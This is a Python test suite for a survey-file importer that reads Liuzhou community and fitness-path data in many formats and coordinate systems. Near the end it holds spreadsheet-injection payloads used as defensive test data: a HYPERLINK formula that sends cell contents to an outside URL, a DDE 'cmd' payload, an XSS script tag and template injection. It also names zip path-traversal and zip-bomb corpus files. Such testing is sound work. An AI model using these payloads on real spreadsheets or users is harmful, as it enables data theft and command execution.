"""Import of survey files: the bad-file corpus, good files of every format, coordinates, outputs, CLI."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from geopandas.testing import assert_geodataframe_equal
from shapely.geometry import Point

from geo.cli import main
from geo.config import BOUNDARIES_PATH, load_config
from geo.data.cells import spreadsheet_text
from geo.data.crs import bd09_to_wgs84, gcj02_to_wgs84
from geo.data.io import read_communities, read_districts, read_raw_layer
from geo.data.schema import COMMUNITY_COLUMNS, FITNESS_PATH_COLUMNS
from geo.errors import DataError
from geo.intake.importer import (
    approximate_footprints,
    import_file,
    write_accepted,
    write_rejects,
)
from geo.intake.validate import REASONS
from tests import hostile
from tests.helpers import csv_rows
from tests.intake_corpus import make_corpus as corpus

CORPUS = corpus.HERE
EXPECTED = pd.read_csv(CORPUS / "expected.csv", dtype=str, keep_default_na=False)
REPO = Path(__file__).resolve().parent.parent
DTYPES = {"str": "string", "int": "Int64", "float": "float64", "bool": "boolean"}
# Formats that may keep fewer digits than a float64 (17 significant): GDAL's KML writer keeps 15,
# openpyxl writes 16 (Excel itself keeps 15), GDAL's GeoJSON writer drops binary noise
# (109.50009999999999 → 109.5001). At Liuzhou's longitudes that is up to ~5e-13°; the comparison
# allows 1e-9° (0.1 mm). GeoPackage, Shapefile and CSV give the very same floats.
LIMITED_PRECISION = ("kml", "xlsx_zh", "xlsx_en", "geojson")
LIMITED_PRECISION_TOLERANCE_DEG = 1e-9


@pytest.fixture(scope="module")
def config():
    return load_config()


@pytest.fixture(scope="module")
def districts():
    return read_districts(BOUNDARIES_PATH)


# --------------------------------------------------------------------------- the bad-file corpus


@pytest.mark.parametrize("expected", EXPECTED.to_dict("records"), ids=EXPECTED["file"].tolist())
def test_corpus_file(expected, config, districts):
    limits = {key: float(expected[key]) for key in ("max_upload_mb", "max_unzipped_mb") if expected[key]}
    settings = dataclasses.replace(config, **limits)
    path = CORPUS / expected["file"]

    if expected["code"] == "error":
        with pytest.raises(ValueError) as error:
            import_file(path, expected["layer"], expected["crs"] or None, settings, districts)
        assert expected["message"] in str(error.value)
        assert "\n" not in str(error.value)
        return

    result = import_file(path, expected["layer"], expected["crs"] or None, settings, districts)
    summary = result.summary()
    assert summary["input_rows"] == int(expected["input_rows"])
    assert summary["accepted"] + summary["rejected"] == summary["input_rows"]
    assert (summary["accepted"], summary["rejected"], summary["repaired"]) == (
        int(expected["accepted"]),
        int(expected["rejected"]),
        int(expected["repaired"]),
    )
    rows = ";".join(str(row) for row in result.rejects.iloc[:, 0])
    assert rows == expected["rejected_rows"]
    if expected["code"] in ("warning", "repaired"):
        assert any(expected["message"] in warning for warning in summary["warnings"]), summary["warnings"]
    else:
        codes = ";".join(result.rejects["reason_code"]).split(";")
        assert expected["code"] in codes
        assert any(expected["message"] in reason for reason in result.rejects["reason_en"]), result.rejects["reason_en"]
        assert result.rejects["reason_zh"].str.len().gt(0).all()


def test_corpus_covers_every_rule_format_and_safety_case():
    assert len(EXPECTED) >= 40
    codes = set(EXPECTED["code"])
    assert set(REASONS) <= codes
    assert {"warning", "repaired", "error"} <= codes
    suffixes = {Path(name).suffix for name in EXPECTED["file"]}
    assert {".gpkg", ".geojson", ".zip", ".kml", ".csv", ".xlsx"} <= suffixes
    errors = " ".join(EXPECTED.loc[EXPECTED["code"] == "error", "message"])
    for safety in (
        "leaves the archive's folder",
        "times its compressed size",
        "above the upload limit",
        "above the limit of",
        "old-style Excel",
        "not in a supported format",
    ):
        assert safety in errors
    assert "formula" in codes and "csv_really_zip.csv" in set(EXPECTED["file"])


# --------------------------------------------------------------------------- good files of every format

GOOD_FORMATS = [
    "gpkg",
    "geojson",
    "shp_utf8",
    "shp_gbk_cpg",
    "shp_gbk_no_cpg",
    "kml",
    "csv_utf8",
    "csv_bom",
    "csv_gbk",
    "xlsx_zh",
    "xlsx_en",
]


def good_rows(layer):
    rows = corpus.records(layer)
    rows[0]["longitude"] = rows[0]["longitude"] + 1.2345678901e-6  # 17 significant digits
    return rows


def write_good(tmp_path: Path, layer: str, file_format: str, rows=None, geometry="point") -> Path:
    rows = rows or good_rows(layer)
    data = corpus.frame(rows, layer, geometry)
    if file_format == "gpkg":
        return corpus.write_geodata(tmp_path / "good.gpkg", data, "GPKG", layer)
    if file_format == "geojson":
        return corpus.write_geodata(tmp_path / "good.geojson", data, "GeoJSON")
    if file_format == "kml":
        return corpus.write_geodata(tmp_path / "good.kml", data, "KML")
    if file_format.startswith("shp"):
        encoding = None if file_format == "shp_utf8" else "GBK"
        return corpus.write_shapefile_zip(
            tmp_path / "good.zip", data, encoding=encoding, cpg=file_format != "shp_gbk_no_cpg", folder_in_zip="调查/"
        )
    if file_format.startswith("csv"):
        encoding = {"csv_utf8": "utf-8", "csv_bom": "utf-8-sig", "csv_gbk": "gbk"}[file_format]
        return corpus.write_csv(tmp_path / "good.csv", rows, layer, encoding=encoding)
    lang = file_format[-2:]
    sheet = ("小区调查" if layer == "communities" else "健身路径调查") if lang == "zh" else "Data"
    return corpus.write_xlsx(tmp_path / "good.xlsx", rows, layer, lang=lang, sheet=sheet)


def expected_frame(layer, rows, geometry, approximate=None):
    """What an import must give, built from the rows without any reader."""
    schema = COMMUNITY_COLUMNS if layer == "communities" else FITNESS_PATH_COLUMNS
    data = {name: pd.Series([row.get(name) for row in rows], dtype=DTYPES[kind]) for name, kind in schema.items()}
    if layer == "communities":
        data["geometry_approximate"] = pd.Series(approximate, dtype="boolean")
        data["land_area_m2"] = pd.Series([row.get("land_area_m2") for row in rows], dtype="float64")
    return gpd.GeoDataFrame(data, geometry=list(geometry), crs="EPSG:4326")


def footprints(rows, default_m2):
    points = np.array([Point(row["longitude"], row["latitude"]) for row in rows])
    areas = np.array([row["land_area_m2"] or default_m2 for row in rows], dtype=float)
    return approximate_footprints(points, np.sqrt(areas), "EPSG:32649")


def assert_same(result, expected, file_format):
    if file_format in LIMITED_PRECISION:
        assert_geodataframe_equal(result, expected, check_less_precise=True)
        distance = shapely.hausdorff_distance(result.geometry.to_numpy(), expected.geometry.to_numpy())
        assert np.all(distance < LIMITED_PRECISION_TOLERANCE_DEG)
    else:
        assert_geodataframe_equal(result, expected)


@pytest.mark.parametrize("file_format", GOOD_FORMATS)
def test_point_communities_read_the_same_from_every_format(tmp_path, file_format, config, districts):
    rows = good_rows("communities")
    result = import_file(write_good(tmp_path, "communities", file_format), "communities", "wgs84", config, districts)

    assert result.summary() == {
        "input_rows": 3,
        "accepted": 3,
        "rejected": 0,
        "repaired": 0,
        "warnings": [],
        "crs": {"used": "wgs84", "assumed": False},
    }
    expected = expected_frame("communities", rows, footprints(rows, config.default_footprint_m2), [True] * 3)
    assert_same(result.accepted, expected, file_format)


@pytest.mark.parametrize("file_format", GOOD_FORMATS)
def test_fitness_paths_read_the_same_from_every_format(tmp_path, file_format, config, districts):
    rows = good_rows("fitness_paths")
    result = import_file(write_good(tmp_path, "fitness_paths", file_format), "fitness_paths", None, config, districts)

    assert result.summary()["accepted"] == 3 and result.summary()["warnings"] == []
    expected = expected_frame("fitness_paths", rows, [Point(r["longitude"], r["latitude"]) for r in rows])
    assert_same(result.accepted, expected, file_format)
    if file_format not in LIMITED_PRECISION:
        np.testing.assert_array_equal(result.accepted.geometry.x, [r["longitude"] for r in rows])


@pytest.mark.parametrize("file_format", ["gpkg", "geojson", "shp_utf8", "kml", "csv_wkt"])
def test_polygon_communities_read_the_same_from_geodata_formats(tmp_path, file_format, config, districts):
    rows = good_rows("communities")
    data = corpus.frame(rows, "communities", "polygon")
    if file_format == "csv_wkt":
        table = pd.DataFrame(data.drop(columns="geometry"))
        table["wkt"] = data.geometry.to_wkt(rounding_precision=-1)
        path = tmp_path / "good.csv"
        table.to_csv(path, index=False)
    else:
        path = write_good(tmp_path, "communities", file_format, rows, geometry="polygon")
    result = import_file(path, "communities", None, config, districts)
    expected = expected_frame("communities", rows, data.geometry, [False] * 3)
    assert_same(result.accepted, expected, file_format)


def test_gbk_shapefile_and_gbk_csv_keep_chinese_names(tmp_path, config, districts):
    rows = good_rows("communities")
    rows[1]["name"] = "鱼峰山下·河西小区（二期）"
    for file_format in ("shp_gbk_no_cpg", "csv_gbk"):
        folder = tmp_path / file_format
        folder.mkdir()
        path = write_good(folder, "communities", file_format, rows)
        data = path.read_bytes() if path.suffix == ".csv" else zipfile.ZipFile(path).read("调查/layer.dbf")
        assert "鱼峰山下".encode("gbk") in data
        accepted = import_file(path, "communities", None, config, districts).accepted
        assert accepted["name"].tolist() == ["柳东小区", "鱼峰山下·河西小区（二期）", "雅儒小区"]
        assert accepted["district_name"].tolist() == ["城中区", "鱼峰区", "柳北区"]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_filled_survey_template_is_imported(tmp_path, lang, config, districts):
    import openpyxl

    from geo.intake.template import SURVEY_SHEET, survey_headers, write_survey_template

    path = write_survey_template(tmp_path / "survey.xlsx", districts, lang=lang)
    book = openpyxl.load_workbook(path)
    sheet = book[SURVEY_SHEET[lang]]
    headers = survey_headers(lang)
    yes = "是" if lang == "zh" else "Yes"
    for values in (
        {
            "name": "阳光花园",
            "district_name": "城中区",
            "longitude": 109.458,
            "latitude": 24.3704,
            "crs": "GCJ-02",
            "land_area_m2": 20000,
            "population": 1200,
            "public_space_used_for_parking": yes,
            "remarks": "东侧空地",
        },
        {"community_id": "450203-0001", "name": "河西小区", "district_name": "鱼峰区", "population": 2500},
        {"name": "雅儒小区", "district_name": "柳北", "longitude": 109.4006, "latitude": 24.4524, "crs": "WGS84"},
    ):
        sheet.append([values.get(column) for column in _survey_columns()])
    book.save(path)
    assert [cell.value for cell in sheet[1]] == headers

    result = import_file(path, "communities", None, config, districts)

    assert result.summary()["accepted"] == 2 and result.rejects["sheet_row"].tolist() == [4]
    assert "did you mean 柳北区?" in result.rejects["reason_en"].iloc[0]
    new, known = result.accepted.iloc[0], result.accepted.iloc[1]
    assert pd.isna(new["community_id"]) and new["district_code"] == "450202" and new["geometry_approximate"]
    assert new["public_space_used_for_parking"] and new["备注" if lang == "zh" else "Remarks"] == "东侧空地"
    centre = gpd.GeoSeries([new.geometry], crs="EPSG:4326").to_crs("EPSG:32649").centroid
    want = gpd.GeoSeries([Point(*gcj02_to_wgs84(109.458, 24.3704))], crs="EPSG:4326").to_crs("EPSG:32649")
    assert centre.distance(want).iloc[0] < 1e-6
    assert known["community_id"] == "450203-0001" and known.geometry is None
    assert any("row 2: no community ID" in w for w in result.warnings)
    assert any("row 3: no coordinates: located by their community ID" in w for w in result.warnings)


def _survey_columns():
    from geo.intake.template import SURVEY_COLUMNS

    return [column.name for column in SURVEY_COLUMNS]


# --------------------------------------------------------------------------- coordinate systems


def test_point_picked_on_amap_ends_where_geo_crs_puts_it(tmp_path, config, districts):
    amap_lon, amap_lat = 109.415427, 24.325316  # central Liuzhou as Amap shows it (GCJ-02)
    rows = corpus.records("fitness_paths")[:1]
    rows[0].update(longitude=amap_lon, latitude=amap_lat)
    path = corpus.write_csv(tmp_path / "amap.csv", rows, "fitness_paths")

    result = import_file(path, "fitness_paths", "gcj02", config, districts)
    want_lon, want_lat = gcj02_to_wgs84(amap_lon, amap_lat)
    assert (result.accepted.geometry.x[0], result.accepted.geometry.y[0]) == (want_lon, want_lat)
    assert 0.004 < amap_lon - want_lon < 0.007  # a few hundred metres west in WGS84

    baidu = import_file(path, "fitness_paths", "百度", config, districts).accepted
    assert (baidu.geometry.x[0], baidu.geometry.y[0]) == bd09_to_wgs84(amap_lon, amap_lat)


def test_per_row_coordinate_system_column(tmp_path, config, districts):
    rows = corpus.records("fitness_paths")
    for row, system in zip(rows, ("WGS84", "高德", "bd-09")):
        row["crs"] = system
    result = import_file(
        corpus.write_csv(tmp_path / "p.csv", rows, "fitness_paths"), "fitness_paths", "gcj02", config, districts
    )
    x, y = result.accepted.geometry.x.to_numpy(), result.accepted.geometry.y.to_numpy()
    assert (x[0], y[0]) == (rows[0]["longitude"], rows[0]["latitude"])
    assert (x[1], y[1]) == gcj02_to_wgs84(rows[1]["longitude"], rows[1]["latitude"])
    assert (x[2], y[2]) == bd09_to_wgs84(rows[2]["longitude"], rows[2]["latitude"])
    assert "crs" not in result.accepted.columns


@pytest.mark.parametrize("file_format", ["shp", "gpkg"])
def test_prj_in_utm_wins_over_declared_gcj02_with_a_warning(tmp_path, file_format, config, districts):
    rows = corpus.records("communities")
    wgs84 = corpus.frame(rows, "communities", "polygon")
    utm = wgs84.to_crs("EPSG:32649")
    if file_format == "shp":
        path = corpus.write_shapefile_zip(tmp_path / "utm.zip", utm)
        with zipfile.ZipFile(path) as archive:
            assert "UTM_Zone_49N" in archive.read("layer.prj").decode()
    else:
        path = corpus.write_geodata(tmp_path / "utm.gpkg", utm, "GPKG", "communities")

    result = import_file(path, "communities", "gcj02", config, districts)

    assert result.summary()["accepted"] == 3
    assert any("own coordinate system (EPSG:32649" in w and "declared gcj02 is ignored" in w for w in result.warnings)
    distance = shapely.hausdorff_distance(result.accepted.geometry.to_numpy(), wgs84.geometry.to_numpy())
    assert np.all(distance < 1e-7)  # reprojected from UTM, not shifted as GCJ-02 (~5e-3°)


def test_csv_of_projected_metres_with_declared_epsg(tmp_path, config, districts):
    rows = corpus.records("fitness_paths")
    wgs84 = gpd.GeoSeries([Point(r["longitude"], r["latitude"]) for r in rows], crs="EPSG:4326")
    utm = wgs84.to_crs("EPSG:32649")
    for row, point in zip(rows, utm):
        row.update(longitude=point.x, latitude=point.y)
    path = corpus.write_csv(tmp_path / "utm.csv", rows, "fitness_paths")
    result = import_file(path, "fitness_paths", "EPSG:32649", config, districts)
    assert result.summary()["accepted"] == 3
    assert np.all(shapely.distance(result.accepted.geometry.to_numpy(), wgs84.to_numpy()) < 1e-9)
    # Undeclared metres without a zone number: the central meridian cannot be told, so no row is guessed at.
    with pytest.raises(DataError, match=r"no coordinate system declared.*most likely EPSG:4546"):
        import_file(path, "fitness_paths", None, config, districts)


def test_surveying_bureau_shapefile_in_cgcs2000_gauss_kruger(tmp_path, config, districts):
    wgs84 = corpus.frame(corpus.records("communities"), "communities", "polygon")
    path = corpus.write_shapefile_zip(tmp_path / "cgcs2000.zip", wgs84.to_crs("EPSG:4545"))  # 3° GK, CM 108°E
    result = import_file(path, "communities", None, config, districts)
    assert result.summary()["accepted"] == 3 and result.warnings == ()
    distance = shapely.hausdorff_distance(result.accepted.geometry.to_numpy(), wgs84.geometry.to_numpy())
    assert np.all(distance < 1e-7)


def test_unknown_declared_crs_fails_before_reading(config, districts):
    with pytest.raises(ValueError, match="unknown coordinate system 'mars-ish'"):
        import_file(CORPUS / "no-such-file.csv", "communities", "mars-ish", config, districts)


# --------------------------------------------------------------------------- footprints and outputs


def test_point_community_gets_a_square_of_its_land_area(tmp_path, config, districts):
    rows = corpus.records("communities")
    result = import_file(
        corpus.write_csv(tmp_path / "c.csv", rows, "communities"), "communities", None, config, districts
    )
    utm = result.accepted.to_crs("EPSG:32649")
    np.testing.assert_allclose(utm.area, [20000.0, config.default_footprint_m2, 12000.0], rtol=1e-9)
    centres = gpd.GeoSeries([Point(r["longitude"], r["latitude"]) for r in rows], crs="EPSG:4326").to_crs("EPSG:32649")
    np.testing.assert_allclose(utm.centroid.distance(centres.reset_index(drop=True)), 0, atol=1e-6)
    assert result.accepted["geometry_approximate"].tolist() == [True, True, True]
    assert (utm.geometry.apply(lambda g: len(g.exterior.coords)) == 5).all()


def test_outputs_rejects_csv_and_accepted_gpkg(tmp_path, config, districts):
    result = import_file(CORPUS / "csv_formula_text_in_name.csv", "communities", None, config, districts)
    rejects = write_rejects(result, tmp_path / "rejects.csv")
    raw = rejects.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = pd.read_csv(rejects, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert list(table.columns[:4]) == ["sheet_row", "reason_code", "reason_zh", "reason_en"]
    assert table["sheet_row"].tolist() == ["3"]
    assert table["名称"].iloc[0].startswith("'=HYPERLINK")  # shown as text, never run as a formula
    assert table["人口"].iloc[0] == "'-1"

    out = write_accepted(result, tmp_path / "accepted.gpkg")
    write_accepted(import_file(CORPUS / "paths_bad_condition.csv", "fitness_paths", None, config, districts), out)
    communities = read_communities(out)  # the pipeline's strict reader takes the import's output
    assert communities["community_id"].tolist() == ["450202-0001", "450205-0001"]
    assert communities["geometry_approximate"].tolist() == [True, True]
    assert len(gpd.read_file(out, layer="fitness_paths")) == 2


# Hostile headers that stay distinct once the reader strips surrounding whitespace from headers.
HOSTILE_HEADERS = [
    text for i, text in enumerate(hostile.ALL) if text.strip() not in {other.strip() for other in hostile.ALL[:i]}
]


def hostile_survey(path: Path) -> Path:
    """A survey CSV whose every row is rejected (population -1), with a hostile name on each row
    and a column headed by each hostile string holding that row's name too."""
    rows = corpus.records("communities")
    columns = corpus.columns_of("communities", rows)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL)  # "\r" in a cell needs quotes
    writer.writerow([corpus.header(c, "zh") for c in columns] + HOSTILE_HEADERS)
    for i, text in enumerate(hostile.ALL):
        row = {**rows[i % len(rows)], "name": text, "population": -1}
        writer.writerow([corpus.cell_text(c, row.get(c), "zh") for c in columns] + [text] * len(HOSTILE_HEADERS))
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    return path


def assert_rejects_csv_is_text(data: bytes, result) -> None:
    rows = csv_rows(data)  # fails on a formula, a missing BOM or an unquoted text cell
    assert rows[0] == [spreadsheet_text(str(c)) for c in result.rejects.columns]
    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")' in rows[0]  # the user's headers too
    assert "'@SUM(9)" in rows[0] and "'=1+2" in rows[0] and "小区名称" in rows[0]
    assert len(rows) == 1 + len(hostile.ALL)
    names = [row[rows[0].index("名称")] for row in rows[1:]]
    assert names == [spreadsheet_text(name) for name in result.rejects["名称"]]
    assert {"'=1+2", "'@SUM(9)", "'+1+2", "{{ 6*7 }}", "<script>alert('xss')</script>"} <= set(names)
    assert [row[rows[0].index("人口")] for row in rows[1:]] == ["'-1"] * len(hostile.ALL)  # text, as typed
    assert [row[0] for row in rows[1:]] == [float(n) for n in result.rejects["sheet_row"]]  # numbers stay numbers
    for header in HOSTILE_HEADERS:
        column = rows[0].index(spreadsheet_text(header.strip()))
        assert [row[column] for row in rows[1:]] == [spreadsheet_text(text) for text in result.rejects.iloc[:, column]]
        assert {"'=1+2", "'-1+2", "'=cmd|' /C calc'!A0", "小区名称"} <= {row[column] for row in rows[1:]}


def test_rejects_of_hostile_text_are_text_in_the_app_and_the_cli(tmp_path, config, districts, capsys):
    survey = hostile_survey(tmp_path / "survey.csv")
    result = import_file(survey, "communities", None, config, districts)
    assert result.rejected == len(hostile.ALL) and len(result.accepted) == 0
    assert {'\x01=HYPERLINK("' + hostile.OUTSIDE_URL + '?d="&C2,"详情")', "@SUM(9)", "=1+2"} <= set(
        result.rejects.columns
    )

    app_bytes = result.rejects_csv()  # what the app's download button serves
    assert_rejects_csv_is_text(app_bytes, result)

    cli_rejects = tmp_path / "rejects.csv"
    assert (
        main(
            [
                "import",
                str(survey),
                "--layer",
                "communities",
                "--out",
                str(tmp_path / "ok.gpkg"),
                "--rejects",
                str(cli_rejects),
            ]
        )
        == 3  # read, but no row accepted
    )
    capsys.readouterr()
    assert cli_rejects.read_bytes() == app_bytes == write_rejects(result, tmp_path / "again.csv").read_bytes()


def test_row_numbers_of_an_xlsx_are_its_sheet_rows(config, districts):
    raw = read_raw_layer(CORPUS / "xlsx_title_rows_bad_population.xlsx", "communities")
    assert raw.row_kind == "sheet_row" and raw.row_numbers.tolist() == [5, 6, 7]


# --------------------------------------------------------------------------- command line


def test_cli_import_json(tmp_path, capsys):
    out, rejects = tmp_path / "ok.gpkg", tmp_path / "rejects.csv"
    code = main(
        [
            "import",
            str(CORPUS / "csv_swapped.csv"),
            "--layer",
            "communities",
            "--crs",
            "wgs84",
            "--out",
            str(out),
            "--rejects",
            str(rejects),
            "--json",
        ]
    )
    assert code == 0
    summary = json.loads(capsys.readouterr().out)
    assert set(summary) == {"input_rows", "accepted", "rejected", "repaired", "warnings", "crs"}
    assert summary["crs"] == {"used": "wgs84", "assumed": False}
    assert summary["input_rows"] == summary["accepted"] + summary["rejected"] == 3
    assert isinstance(summary["warnings"], list) and "swapped" in summary["warnings"][0]
    assert out.exists() and rejects.exists()


@pytest.mark.parametrize(
    "name", ["binary.geojson", "zip_path_traversal.zip", "zip_bomb.zip", "legacy.xls", "kml_truncated.kml"]
)
def test_cli_unreadable_file_is_one_line_exit_2(tmp_path, name):
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "geo",
            "import",
            str(CORPUS / name),
            "--layer",
            "communities",
            "--out",
            str(tmp_path / "o.gpkg"),
            "--rejects",
            str(tmp_path / "r.csv"),
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
    )
    assert run.returncode == 2
    assert run.stdout == ""
    assert len(run.stderr.strip().splitlines()) == 1 and run.stderr.startswith("error: ")
    assert "Traceback" not in run.stderr
    assert not (tmp_path / "o.gpkg").exists()
